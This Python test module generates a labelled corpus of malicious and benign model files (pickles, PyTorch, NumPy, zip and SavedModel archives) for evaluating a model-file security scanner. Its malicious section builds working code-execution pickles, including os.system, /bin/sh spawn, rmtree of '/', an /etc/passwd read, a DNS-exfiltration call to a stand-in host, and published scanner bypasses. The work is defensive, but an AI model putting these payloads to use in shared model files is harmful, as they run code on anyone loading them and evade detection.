"""Samples re-created from the recipes other scanners publish in their own test suites.

picklescan (mmaitre314/picklescan: tests/init_data_files.py and its GHSA advisories), modelscan
(protectai/modelscan: tests/) and fickling (trailofbits/fickling: test/test_bypasses.py,
test_cve_patterns.py, test_benign_edge_cases.py) describe how each of their samples is made:
which callable a payload names, with which protocol, inside which container, damaged how. The
samples here are generated from those descriptions; no file of theirs is copied. Payloads are
never unpickled.

Malicious samples name a callable that runs code, a command, a network or file operation when
loaded; benign samples are what models and their metadata actually contain, built with the
real libraries where they are installed (NumPy, scikit-learn, joblib).
"""

from __future__ import annotations
import __future__

import collections
import collections.abc
import datetime
import decimal
import fractions
import pathlib
import pickle
import ssl
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests import pickle_craft as craft
from tests import savedmodel_craft as tf
from tests.corpus_types import Reduce, Sample, write

PAYLOAD = "__import__('os').system('whoami')"

# (file name, module, qualified name, args, protocol): payloads that call one callable.
# From picklescan's Malicious* classes and GHSA reduce functions, modelscan's and fickling's
# unsafe-import tests. Modules that need not be importable here are assembled by hand.
_CALLS: tuple[tuple[str, str, str, tuple[object, ...], int], ...] = (
    ("malicious3.pkl", "httplib", "HTTPSConnection", ("github.com",), 0),
    ("malicious4.pickle", "requests.api", "get", ("https://github.com",), 4),
    ("malicious5.pickle", "aiohttp.client", "ClientSession", (), 4),
    ("malicious7.pkl", "socket", "create_connection", (("github.com", 80),), 4),
    ("malicious8.pkl", "subprocess", "run", (["ls", "-l"],), 4),
    ("malicious9.pkl", "sys", "exit", (0,), 4),
    ("malicious13a.pkl", "pickle", "loads", (b"I12345\n.",), 0),
    ("malicious13b.pkl", "_pickle", "loads", (b"I12345\n.",), 4),
    ("malicious14.pkl", "runpy", "_run_code", ("print('456')",), 4),
    ("malicious15b.pkl", "bdb", "Bdb.run", ({}, 'import os\nos.system("whoami")'), 4),
    ("malicious16.pkl", "pip", "main", (["install", "some_malicious_package"],), 0),
    ("malicious17.pkl", "torch._inductor.codecache", "compile_file", ("", "", ["sh"]), 4),
    ("malicious18.pkl", "pydoc", "pipepager", ("", 'echo "pwned"'), 4),
    ("malicious20.pkl", "venv", "create", ("venv", False, False, True, False, "$(id)"), 4),
    ("malicious21.pkl", "timeit", "timeit", ("", PAYLOAD), 4),
    ("malicious22.pkl", "numpy.testing._private.utils", "runstring", (PAYLOAD, {}), 4),
    ("GHSA-4r9r-ch6f-vxmx.pkl", "torch.utils.bottleneck.__main__", "run_cprofile",
     (PAYLOAD, {}), 4),
    ("GHSA-86cj-95qr-2p4f.pkl", "torch._dynamo.guards", "GuardBuilder.get", ({}, PAYLOAD), 4),
    ("GHSA-f4x7-rfwp-v3xw.pkl", "torch.fx.experimental.symbolic_shapes",
     "ShapeEnv.evaluate_guards_expression", ({}, PAYLOAD, []), 4),
    ("GHSA-f745-w6jp-hpxx.pkl", "torch.utils.collect_env", "run", (PAYLOAD,), 4),
    ("GHSA-jhph-76pp-mggw.pkl", "torch.utils.collect_env", "run_and_read_all", ({}, PAYLOAD), 4),
    ("GHSA-h3qp-7fh3-f8h4.pkl", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
     ("pickle", b""), 4),
    ("GHSA-vr7h-p6mm-wpmh.pkl", "torch.jit.unsupported_tensor_ops", "execWrapper",
     (PAYLOAD, {}, {}), 4),
    ("GHSA-vv6j-3g6g-2pvj.pkl", "torch.utils._config_module", "ConfigModule.load_config",
     ({}, b""), 4),
    ("GHSA-5qwp-399c-mjwf.pkl", "trace", "Trace.run", ({}, PAYLOAD), 4),
    ("GHSA-g344-hcph-8vgg.pkl", "trace", "Trace.runctx", ({}, PAYLOAD, {}, {}), 4),
    ("GHSA-x696-vm39-cp64.pkl", "profile", "Profile.run", ({}, PAYLOAD), 4),
    ("GHSA-6vqj-c2q5-j97w.pkl", "profile", "Profile.runctx", ({}, PAYLOAD, {}, {}), 4),
    ("GHSA-f54q-57x4-jg88.pkl", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b""), 4),
    ("GHSA-3vg9-h568-4w9m.pkl", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAYLOAD), 4),
    ("GHSA-6w4w-5w54-rjvr.pkl", "idlelib.autocomplete", "AutoComplete.get_entity",
     ({}, PAYLOAD), 4),
    ("GHSA-7cq8-mj8x-j263.pkl", "idlelib.autocomplete", "AutoComplete.fetch_completions",
     ({}, PAYLOAD, 1), 4),
    ("GHSA-cj3c-v495-4xqh.pkl", "code", "InteractiveInterpreter.runcode", ({}, PAYLOAD), 4),
    ("GHSA-8r4j-24qv-fmq9.pkl", "idlelib.calltip", "Calltip.fetch_tip", ({}, PAYLOAD), 4),
    ("GHSA-9xph-j2h6-g47v.pkl", "idlelib.calltip", "get_entity", (PAYLOAD,), 4),
    ("GHSA-4whj-rm5r-c2v8.pkl", "torch.utils.bottleneck.__main__", "run_autograd_prof",
     (PAYLOAD, {}), 4),
    ("GHSA-xp4f-hrf8-rxw7.pkl", "ensurepip", "_run_pip", (PAYLOAD,), 4),
    ("GHSA-p9w7-82w4-7q8m.pkl", "lib2to3.pgen2.pgen", "ParserGenerator.make_label",
     (None, {}, '""+' + PAYLOAD), 4),
    ("GHSA-m869-42cg-3xwr.pkl", "idlelib.run", "Executive.runcode", ({}, PAYLOAD), 4),
    ("GHSA-j343-8v2j-ff7w.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcommand",
     ({}, PAYLOAD), 4),
    ("GHSA-3gf5-cxq9-w223.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAYLOAD), 4),
    ("GHSA-fqq6-7vqf-w3fg.pkl", "doctest", "debug_script", (PAYLOAD, True), 4),
    ("GHSA-9w88-8rmg-7g2p.pkl", "cProfile", "runctx", (PAYLOAD, None, None), 4),
    ("GHSA-49gj-c84q-6qm9.pkl", "cProfile", "run", (PAYLOAD,), 4),
    ("GHSA-q77w-mwjj-7mqx.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "whoami", True, None, None, None, 0), 4),
    ("GHSA-jgw4-cr84-mqxg.bin", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "whoami", True, None, None, None, 0), 4),
    ("GHSA-m273-6v24-x4m4.pkl", "distutils.file_util", "write_file",
     ("pwned_config.env", ["malicious content"]), 4),
    ("GHSA-4675-36f9-wf6r.pkl", "ctypes", "CDLL", (None,), 4),
    ("GHSA-vqmv-47xg-9wpr.pkl", "pty", "spawn", (["/bin/sh", "-c", "id; exit"],), 4),
    ("GHSA-r8g5-cgf2-4m4m.pkl", "numpy.f2py.crackfortran", "getlincoef", (PAYLOAD, []), 4),
    ("GHSA-g38g-imaplib.pkl", "imaplib", "IMAP4_stream", ("id",), 4),
    ("GHSA-g38g-uuid.pkl", "uuid", "_get_command_stdout", ("id",), 4),
    ("GHSA-g38g-osx-support.pkl", "_osx_support", "_read_output", ("id",), 4),
    ("GHSA-g38g-aix-support.pkl", "_aix_support", "_read_cmd_output", ("id",), 4),
    ("GHSA-g38g-pyrepl-pager.pkl", "_pyrepl.pager", "pipe_pager", ("", "id"), 4),
    ("GHSA-g38g-test.pkl", "test.support.script_helper", "assert_python_ok", ("-c", PAYLOAD), 4),
    ("io_FileIO.pkl", "io", "FileIO", ("/etc/hosts", "r"), 4),
    ("urllib_request_urlopen.pkl", "urllib.request", "urlopen", ("https://example.invalid",), 4),
    ("logging_FileHandler.pkl", "logging", "FileHandler", ("/tmp/pwned.log",), 4),
    ("types_CodeType.pkl", "types", "CodeType", (0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0), 4),
    ("importlib_bypass.pkl", "importlib", "import_module", ("os",), 4),
    ("cloudpickle_codeinjection.pkl", "cloudpickle.cloudpickle", "_make_function",
     (None, {}, None, None, None), 4),
    ("webbrowser.pkl", "webbrowser", "open", ("https://example.invalid",), 4),
    ("shutil_rmtree.pkl", "shutil", "rmtree", ("/",), 4),
    ("mailcap.pkl", "mailcap", "findmatch", ({}, "text/plain"), 4),
    ("signal.pkl", "_signal", "raise_signal", (15,), 0),
    ("http_connection.pkl", "http.client", "HTTPConnection", ("example.invalid",), 4),
    ("ctypes_util.pkl", "ctypes.util", "find_library", ("c",), 4),
    ("importlib_util.pkl", "importlib.util", "find_spec", ("os",), 4),
    ("multiprocessing_util.pkl", "multiprocessing.util", "spawnv_passfds",
     (b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ()), 5),
    ("code_console.pkl", "code", "InteractiveConsole", (), 4),
    ("subprocess_call.pt", "subprocess", "call", (["id"],), 4),
    ("builtins_eval.pth", "builtins", "eval", ("1+1",), 4),
    ("socket_socket", "socket", "socket", (), 4),
    ("pty_spawn.txt", "pty", "spawn", ("/bin/sh",), 4),
    ("pydoc_locate.pkl", "pydoc", "locate", ("ctypes.windll.kernel32.WinExec",), 0),
    ("sys_modules.pkl", "sys", "modules", (), 4),
    ("torch_load.pkl", "torch.serialization", "load", ("other.bin",), 4),
    ("numpy_load.pkl", "numpy", "load", ("other.npy",), 4),
    ("os_popen.pkl", "os", "popen", ("id",), 2),
    ("nt_system.pkl", "nt", "system", ("calc.exe",), 2),
    ("marshal_loads.pkl", "marshal", "loads", (b"\xe3",), 4),
    ("functools_partial.pkl", "functools", "partial", (print,), 4),
)  # fmt: skip

# Payload by picklescan's Malicious1/Malicious2 classes at protocols 0, 3 and 4.
_PROTOCOL_PAYLOADS = tuple(
    (f"malicious{i}_v{p}.pkl", module, name, args, p)
    for i, (module, name, args) in enumerate(
        (("builtins", "eval", ("print('456')",)), ("posix", "system", ("ls -la",))), 1
    )
    for p in (0, 3, 4)
)

# Sour pickles (BlackHat 2011), as picklescan's malicious0.pkl spells it.
SOUR_PICKLE = (
    b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");'
    b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
    b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
    b"(g100\nS'picklesmashed'\nltRp104\n0g104\n."
)
INST_EXEC = b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n."
# picklescan's CTF sample: names pushed with UNICODE, memoized with PUT, fetched with GET
CTF_MEMO = (
    b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR."
)
KEYERROR = (
    b"\x80\x04cos\nsystem\nV" + b'echo "pwned by memo keyerror"\n' + b"\x85R0"
    b"\x8c\x02os\x94h\x03h\x00\x93K\x42."
)
TYPE_CONFUSION = (
    b"\x80\x04cos\nsystem\nVecho type-confusion\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94"
    b"h\x00h\x01\x93K\x42."
)
BROKEN_EXEC = (
    b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."
)
STRING_STACK_GLOBAL = b"S'os'\nS'system'\n\x93S'ls'\n\x85R."


def _pickleassem_attrgetter() -> bytes:
    """picklescan's malicious12: operator.attrgetter('system')(__import__('os'))('echo pwned')."""
    u = craft.u
    return (
        b"\x80\x04"
        + u("operator") + b"\x94" + u("attrgetter") + b"\x94\x93\x94"
        + u("system") + b"\x94\x85\x94R\x94"
        + u("builtins") + b"\x94" + u("__import__") + b"\x94\x93\x94"
        + u("os") + b"\x94\x85\x94R\x94"
        + b"\x85\x94R\x94"
        + u("echo pwned") + b"\x94\x85\x94R\x94."
    )  # fmt: skip


def _fickling_marshal_types() -> bytes:
    """fickling's GHSA-565g bypass: marshal.loads a code object, types.FunctionType runs it."""
    import marshal

    code = marshal.dumps(compile('import os\nos.system("id")', "<s>", "exec"))
    u = craft.u
    return (
        b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00"  # FRAME 0: a length that lies
        + u("marshal") + u("loads") + b"\x93\x94h\x00"
        + b"C" + bytes([len(code)]) + code + b"\x85R\x94"
        + u("types") + u("FunctionType") + b"\x93\x94h\x02h\x01}\x86R\x94h\x03)R\x94"
        + u("gottem") + b"b."
    )  # fmt: skip


def _fickling_getattr_chain(module: str, name: str) -> bytes:
    """fickling's ctypes/importlib/code bypasses: getattr(<module.name>(arg), 'system')('id')."""
    u = craft.u
    return (
        b"\x80\x05" + u("builtins") + b"\x94" + u("getattr") + b"\x94\x93\x94"
        + u(module) + b"\x94" + u(name) + b"\x94\x93\x94"
        + u("os") + b"\x94\x85\x94R\x94" + u("system") + b"\x94\x86\x94R\x94"
        + u("id") + b"\x94\x85\x94R\x94."
    )  # fmt: skip


def _fickling_pty_frame() -> bytes:
    """fickling's GHSA-r7v6: pty.spawn in a protocol 4 pickle with a frame of 26 bytes."""
    u = craft.u
    body = u("pty") + b"\x94" + u("spawn") + b"\x94\x93\x94" + u("id") + b"\x94\x85\x94R\x94"
    body += u("gottem") + b"\x94b."
    return b"\x80\x04\x95" + (26).to_bytes(8, "little") + body


def _torch_zip_with(data_pkl: bytes, prefix: str = "archive") -> bytes:
    return craft.zip_of(
        {
            f"{prefix}/data.pkl": data_pkl,
            f"{prefix}/version": b"3\n",
            f"{prefix}/data/0": b"\x00" * 16,
        }
    )


def _npy_object(obj: object) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import numpy as np

        arr = np.empty(1, dtype=object)
        arr[0] = obj
        np.save(path, arr, allow_pickle=True)

    return build


EVAL4 = craft.call("builtins", "eval", ("print('456')",))
_ZIP_EVAL = craft.zip_of({"data.pkl": EVAL4})


def malicious() -> list[Sample]:
    out = [
        Sample(name, True, f"{module}.{qual} via REDUCE (protocol {p})",
               write(craft.call(module, qual, args, protocol=p)))
        for name, module, qual, args, p in (*_PROTOCOL_PAYLOADS, *_CALLS)
    ]  # fmt: skip
    out += [
        Sample("malicious0.pkl", True, "sour pickles: globals/compile/eval/getattr/apply",
               write(SOUR_PICKLE)),
        Sample("malicious10.pkl", True, "builtins.exec via INST", write(INST_EXEC)),
        Sample("malicious11.pkl", True, "STACK_GLOBAL names from PUT/GET (protocol 0 opcodes)",
               write(CTF_MEMO)),
        Sample("malicious-invalid-bytes.pkl", True, "memo STACK_GLOBAL then trailing garbage",
               write(CTF_MEMO + b"\n\n\t\t")),
        Sample("keyerror-exploit.pkl", True, "os.system, then a GET of an unset memo key",
               write(KEYERROR)),
        Sample("type-confusion-exploit.pkl", True, "os.system, then STACK_GLOBAL on an int",
               write(TYPE_CONFUSION)),
        Sample("broken_model.pkl", True, "builtins.exec before a malformed tail",
               write(BROKEN_EXEC)),
        Sample("malicious12.pkl", True, "operator.attrgetter + builtins.__import__ chain",
               write(_pickleassem_attrgetter())),
        Sample("malicious23.pkl", True, "STACK_GLOBAL on STRING opcodes (no PROTO)",
               write(STRING_STACK_GLOBAL)),
        Sample("malicious15a.pkl", True, "bdb.Bdb.run through getattr (protocol 2)",
               write(craft.framed(2, b"c__builtin__\ngetattr\n(cbdb\nBdb\nS'run'\ntR"
                                     b"(}S'import os'\ntR."))),
        Sample("malicious19.pkl", True, "functools.partial(torch.load, ...) with kwargs",
               write(craft.framed(4, craft.global_ref("functools", "partial", 4)
                                  + craft.global_ref("torch.serialization", "load", 4)
                                  + craft.u("other.bin") + b"\x86R."))),
        Sample("malicious6.pkl", True, "benign pickle, then a second that calls requests.get",
               write(pickle.dumps(["a", "b", "c"])
                     + craft.call("requests.api", "get", ("https://github.com",)))),
        Sample("GHSA-84r2-jw7c-4r5q.pkl", True, "operator.methodcaller + pydoc.locate",
               write(craft.framed(4, craft.global_ref("operator", "methodcaller", 4)
                                  + craft.u("system") + craft.u("echo pwned") + b"\x86R"
                                  + craft.global_ref("pydoc", "locate", 4) + craft.u("os")
                                  + b"\x85R\x85R."))),
        Sample("GHSA-565g-marshal-types.pkl", True, "marshal.loads + types.FunctionType",
               write(_fickling_marshal_types())),
        Sample("GHSA-r7v6-pty.pkl", True, "pty.spawn, frame length 26",
               write(_fickling_pty_frame())),
        Sample("GHSA-q5qq-importlib.pkl", True, "getattr(importlib.import_module('os'), ...)",
               write(_fickling_getattr_chain("importlib", "import_module"))),
        Sample("GHSA-q5qq-ctypes.pkl", True, "getattr(ctypes.CDLL(...), 'system')",
               write(_fickling_getattr_chain("ctypes", "CDLL"))),
        Sample("GHSA-q5qq-code.pkl", True, "getattr(code.InteractiveInterpreter(), ...)",
               write(_fickling_getattr_chain("code", "InteractiveInterpreter"))),
        Sample("subprocess_popen_frame.pkl", True, "subprocess.Popen imported, frame of 50",
               write(b"\x80\x04\x95" + (50).to_bytes(8, "little") + craft.u("subprocess")
                     + b"\x94" + craft.u("Popen") + b"\x94\x93\x94.")),
        Sample("malicious1.zip", True, "data.pkl in a zip", write(_ZIP_EVAL)),
        Sample("malicious1_0x1.zip", True, "zip, encryption flag bit set, data in the clear",
               write(craft.zip_flag(_ZIP_EVAL, 0x1))),
        Sample("malicious1_0x20.zip", True, "zip, patched-data flag bit set",
               write(craft.zip_flag(_ZIP_EVAL, 0x20))),
        Sample("malicious1_0x40.zip", True, "zip, strong-encryption flag bit set",
               write(craft.zip_flag(_ZIP_EVAL, 0x40))),
        Sample("malicious1_central_directory.zip", True, "local header name differs",
               write(craft.zip_renamed_local(_ZIP_EVAL, b"data.pkl", b"datap.kl"))),
        Sample("malicious1_crc.zip", True, "zip whose data no longer matches its CRC",
               write(_ZIP_EVAL.replace(b"print('456')", b"print('123')", 1))),
        Sample("malicious1_cd_crc.zip", True, "zip, CRC flipped in the central directory",
               write(craft.zip_bad_crc(_ZIP_EVAL))),
        Sample("malicious1_wrong_ext.zip", True, "pickle named data.txt inside a zip",
               write(craft.zip_of({"data.txt": EVAL4}))),
        Sample("malicious1_no_ext", True, "zip without an extension",
               write(craft.zip_of({"data.txt": EVAL4}, zipfile.ZIP_DEFLATED))),
        Sample("malicious1_no_directory.zip", True, "zip with its central directory cut",
               write(craft.zip_without_directory(_ZIP_EVAL))),
        Sample("malicious1.7z", True, "data.pkl in a 7z archive",
               write(craft.sevenzip({"data.pkl": EVAL4}))),
        Sample("unsafe_zip_pytorch.pt", True, "PyTorch zip whose data.pkl calls eval",
               write(_torch_zip_with(EVAL4))),
        Sample("pytorch_model_malicious.bin", True, "PyTorch zip (archive/) with eval",
               write(_torch_zip_with(craft.call("builtins", "eval", ("1",), protocol=2)))),
        Sample("pytorch_magic_bypass.pt", True, "legacy torch file whose first pickle is eval",
               write(craft.torch_legacy([EVAL4, *(pickle.dumps(i, 2) for i in range(4))]))),
        Sample("dns_exfiltration.npy", True, "NumPy object array: ssl.get_server_certificate",
               _npy_object(Reduce(ssl.get_server_certificate, ("x.dns-logger.invalid", 443)))),
        Sample("tf_readfile/saved_model.pb", True, "SavedModel that runs ReadFile",
               write(tf.saved_model(tf.graph(functions=[
                   *tf.tf2_checkpoint_functions(),
                   tf.function("__inference_call_7", [tf.node("r", "ReadFile")])])))),
        Sample("tf_writefile/saved_model.pb", True, "SavedModel that runs WriteFile (TF1 node)",
               write(tf.saved_model(tf.graph([tf.node("w", "WriteFile")]), saver_scope="save"))),
        Sample("tf_pyfunc/saved_model.pb", True, "SavedModel that runs EagerPyFunc",
               write(tf.saved_model(tf.graph(functions=[
                   tf.function("__inference_call_9", [tf.node("p", "EagerPyFunc")])])))),
        Sample("tf_lambda/keras_metadata.pb", True, "Keras Lambda layer in keras_metadata.pb",
               write(tf.keras_metadata([tf.DENSE, tf.LAMBDA]))),
    ]  # fmt: skip
    return out


# --- benign -------------------------------------------------------------------------------------


def _numpy(build: Callable[[], object], protocol: int) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(pickle.dumps(build(), protocol=protocol))


def _np_savez(compressed: bool, dtype: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import numpy as np

        save = np.savez_compressed if compressed else np.savez
        with path.open("wb") as f:
            save(f, a=np.array([0, 1, 2], dtype=dtype), b=np.array([3, 4, 5], dtype=dtype))

    return build


def _npy(dtype: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import numpy as np

        x = np.empty((2, 2), dtype=dtype)
        x[:] = [(1, 2), (3, 4)]
        np.save(path, x)

    return build


def _sklearn_linear(path: Path) -> None:
    import numpy as np
    from sklearn.linear_model import LinearRegression

    model = LinearRegression().fit(np.array([[1], [2], [3]]), np.array([1, 2, 3]))
    path.write_bytes(pickle.dumps(model, protocol=4))


def _np(expr: str) -> Callable[[], object]:
    def build() -> object:
        import numpy as np

        return eval(expr, {"np": np})  # the test's own literal expressions, never input

    return build


def benign() -> list[Sample]:
    stdlib: list[tuple[str, object, int]] = [
        ("benign0_v0.pkl", ["a", "b", "c"], 0),
        ("benign0_v3.pkl", ["a", "b", "c"], 3),
        ("benign0_v4.pkl", ["a", "b", "c"], 4),
        ("primitives_p2.pkl", [42, 3.14, "hello", True, False, None], 2),
        ("primitives_p5.pkl", [42, 3.14, "hello", True, False, None], 5),
        ("dict.pkl", {"key": "value", "num": 42}, 4),
        ("tuple100.pkl", tuple(range(100)), 4),
        ("nested_list.pkl", [[[[[[1, 2, 3]]]]]], 3),
        ("nested_dict.pkl", {"a": {"b": {"c": {"d": {"e": 1}}}}}, 4),
        ("large_list.pkl", list(range(10000)), 5),
        ("large_dict.pkl", {f"key_{i}": i for i in range(1000)}, 4),
        ("unicode.pkl", "Hello 世界 🌍 αβγ", 4),
        ("empty.pkl", [[], {}, ()], 2),
        ("datetime_p2.pkl", datetime.datetime(2024, 1, 2, 3, 4, 5), 2),
        ("datetime_p4.pkl", datetime.datetime(2024, 1, 2, 3, 4, 5), 4),
        ("date.pkl", datetime.date(2024, 1, 2), 4),
        ("time.pkl", datetime.time(12, 30, 45), 4),
        ("timedelta.pkl", datetime.timedelta(days=1, hours=2), 4),
        ("timezone.pkl", datetime.UTC, 4),
        ("uuid.pkl", uuid.UUID("12345678-1234-5678-1234-567812345678"), 4),
        ("decimal.pkl", decimal.Decimal("123.456"), 4),
        ("fraction.pkl", fractions.Fraction(1, 3), 4),
        ("purepath.pkl", pathlib.PurePosixPath("/usr/local/bin"), 4),
        ("ordered_dict_p2.pkl", collections.OrderedDict([("a", 1), ("b", 2)]), 2),
        ("counter.pkl", collections.Counter(["a", "b", "a"]), 4),
        ("range.pkl", range(10), 2),
        ("slice.pkl", slice(1, 10), 4),
        ("set_p2.pkl", {1, 2, 3}, 2),
        ("set_p4.pkl", {1, 2, 3}, 4),
        ("frozenset.pkl", frozenset([1, 2, 3]), 4),
        ("bytes_p2.pkl", b"\x00\x01\xff" * 100, 2),
        ("strings_with_keywords.pkl",
         ["You must exec this", "eval the results", "import os", "os.system('rm -rf /')"], 4),
        ("suspicious_keys.pkl", {"exec": 1, "eval": 2, "__reduce__": 3, "os": 4}, 4),
        ("len_ref.pkl", len, 4),
        ("future_feature.pkl", __future__.annotations, 2),
        ("abc_ref.pkl", collections.abc.Mapping, 4),
    ]  # fmt: skip
    out = [
        Sample(name, False, f"{type(obj).__name__} at protocol {p}",
               write(pickle.dumps(obj, protocol=p)))
        for name, obj, p in stdlib
    ]  # fmt: skip
    out += [
        Sample("numpy_float32_p2.pkl", False, "float32 array at protocol 2 (_codecs.encode)",
               _numpy(_np("np.arange(12, dtype='float32').reshape(3, 4)"), 2)),
        Sample("numpy_array_p3.pkl", False, "int array, protocol 3",
               _numpy(_np("np.array([1, 2, 3, 4, 5])"), 3)),
        Sample("numpy_2d_p4.pkl", False, "2-D array, protocol 4",
               _numpy(_np("np.array([[1, 2, 3], [4, 5, 6]])"), 4)),
        Sample("numpy_p5.pkl", False, "array, protocol 5 (in-band buffer)",
               _numpy(_np("np.ones((4, 4))"), 5)),
        Sample("numpy_scalars.pkl", False, "NumPy scalars",
               _numpy(_np("[np.int32(42), np.float64(3.14)]"), 4)),
        Sample("numpy_structured.pkl", False, "structured array",
               _numpy(_np("np.array([('Alice', 25, 55.0)], "
                          "dtype=[('name', 'U10'), ('age', 'i4'), ('weight', 'f8')])"), 4)),
        Sample("int_array.npy", False, "NumPy int array", _npy("int64")),
        Sample("object_array_tuples.npy", False, "NumPy object array of tuples", _npy("object")),
        Sample("int_arrays.npz", False, "npz of int arrays", _np_savez(False, "int64")),
        Sample("int_arrays_compressed.npz", False, "compressed npz", _np_savez(True, "int64")),
        Sample("object_arrays.npz", False, "npz of object arrays", _np_savez(False, "object")),
        Sample("sklearn_linear.pkl", False, "scikit-learn LinearRegression", _sklearn_linear),
        Sample("new_pytorch_model.bin", False, "PyTorch zip state dict (archive/)",
               write(_torch_zip_with(pickle.dumps(collections.OrderedDict(w=1.0), protocol=2)))),
        Sample("pytorch_model.bin", False, "legacy PyTorch state dict",
               write(craft.torch_legacy())),
        Sample("benign.zip", False, "zip holding a plain dict pickle",
               write(craft.zip_of({"data.pkl": pickle.dumps({"a": 0, "b": 1, "c": 2})}))),
        Sample("benign.7z", False, "7z holding a plain pickle",
               write(craft.sevenzip({"data.pkl": pickle.dumps([1, 2, 3])}))),
        Sample("tf_clean/saved_model.pb", False, "TF2 SavedModel with its checkpoint functions",
               write(tf.saved_model(tf.graph(functions=[
                   *tf.tf2_checkpoint_functions(),
                   tf.function("__inference_call_1", [tf.node("m", "MatMul")])])))),
        Sample("tf1_clean/saved_model.pb", False, "TF1 graph with its saver",
               write(tf.saved_model(tf.graph([tf.node("dense/MatMul", "MatMul"),
                                              tf.node("save/SaveV2", "SaveV2"),
                                              tf.node("save/RestoreV2", "RestoreV2")]),
                                    saver_scope="save"))),
        Sample("tf_dense/keras_metadata.pb", False, "keras_metadata.pb without Lambda",
               write(tf.keras_metadata([tf.DENSE]))),
        Sample("benign_password_protected.zip", False,
               "password-protected zip (fail closed, names nothing)",
               write(craft.zipcrypto({"data.pkl": pickle.dumps({"a": 1})}, b"password")),
               fail_closed=True),
        Sample("not_a_pickle.bin", False, "starts like GLOBAL, then invalid UTF-8: not a pickle",
               write(b"cmod\n\xf8\n")),
    ]  # fmt: skip
    return out
